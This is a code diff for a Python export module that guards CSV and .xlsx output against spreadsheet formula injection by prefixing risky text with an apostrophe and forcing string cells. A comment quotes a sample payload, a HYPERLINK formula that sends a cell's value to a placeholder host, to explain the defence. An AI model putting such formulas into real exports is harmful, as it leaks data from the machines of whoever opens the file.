@@ -6,9 +6,9 @@ a leading tab, carriage return or line feed is dropped first, and some locales (
 the full-width forms ＝ ＋ － ＠. A project name such as `=HYPERLINK("http://x.example/?"&A1,"klik")` would
 then run on the desk of whoever opens the export: one municipality's cell reaching the Rijk. OWASP's advice
 ("CSV Injection") is followed: such text gets one leading apostrophe, which every spreadsheet shows as text.
-In .xlsx the cell is also written as an explicit string cell (openpyxl otherwise stores any text starting
-with '=' as a formula) — with the apostrophe in the value, so the text stays inert after an edit in Excel
-and in any tool that copies the values on (pandas, a later CSV).
+In .xlsx every text cell is also a string cell, never a formula or error value (see `xlsx_append`) — with the
+apostrophe in the value, so the text stays inert after an edit in Excel and in any tool that copies the
+values on (pandas, a later CSV). Nothing from the data becomes a hyperlink, defined name or external link.
 
 Only text is touched. Numbers, dates, booleans and empty cells are written as they are (a real -2 stays the
 number -2), and so is text that is nothing but a plain number ("-2", "-1.234,5"): it cannot be a formula.
@@ -34,6 +34,7 @@ _LEADING_SPACE = " \u00a0\u3000"
 # Digits with optional sign, grouping and decimal separators ("-2", "+31", "-1.234,5", "1e-3"): never a formula.
 _PLAIN_NUMBER = re.compile(r"[+-]?[0-9][0-9.,]*(?:[eE][+-]?[0-9]+)?", re.ASCII)
 _AS_IS = (int, float, Decimal, date, datetime, time, type(None))  # bool is an int
+_SUSPECT_FIRST = TRIGGERS | set(_LEADING_SPACE) | {"'"}
 
 
 def _formula_like(text: str) -> bool:
@@ -50,9 +51,14 @@ def needs_apostrophe(text: str) -> bool:
 def inert(value):
     """A value for one spreadsheet cell: numbers, dates and None unchanged; anything else as text, with an
     apostrophe before text that a spreadsheet would run."""
-    if isinstance(value, _AS_IS):
+    if isinstance(value, str):
+        if not value or value[0] not in _SUSPECT_FIRST:  # nearly every cell: one set lookup
+            return value
+        text = value
+    elif isinstance(value, _AS_IS):
         return value
-    text = str(value)
+    else:
+        text = str(value)
     return "'" + text if needs_apostrophe(text) else text
 
 
@@ -87,15 +93,20 @@ def csv_writer(f, delimiter: str = ";") -> CsvWriter:
 
 
 def xlsx_append(worksheet, values) -> None:
-    """One row onto an openpyxl worksheet (write-only or not): text as explicit string cells, never formulas."""
-    from openpyxl.cell import WriteOnlyCell
+    """One row onto an openpyxl worksheet (write-only or not); every text cell is a string cell.
 
-    row = []
-    for value in inert_row(values):
-        if isinstance(value, str):
+    openpyxl guesses a cell's type from its value: text starting with '=' becomes a formula and text such as
+    '#N/A' an error value; everything else is already a string cell. Those two kinds are therefore written as
+    explicit string cells (after `inert`, no text starts with '=' — this holds even if that ever changed);
+    the rest goes in as plain values, because an explicit cell object per text cell doubles the time of a
+    write-only workbook (bench/results/exports.md)."""
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.cell.cell import ERROR_CODES
+
+    row = inert_row(values)
+    for i, value in enumerate(row):
+        if isinstance(value, str) and (value[:1] == "=" or value in ERROR_CODES):
             cell = WriteOnlyCell(worksheet, value=value)
-            cell.data_type = "s"  # openpyxl's guess would make text starting with '=' a formula
-            row.append(cell)
-        else:
-            row.append(value)
+            cell.data_type = "s"
+            row[i] = cell
     worksheet.append(row)
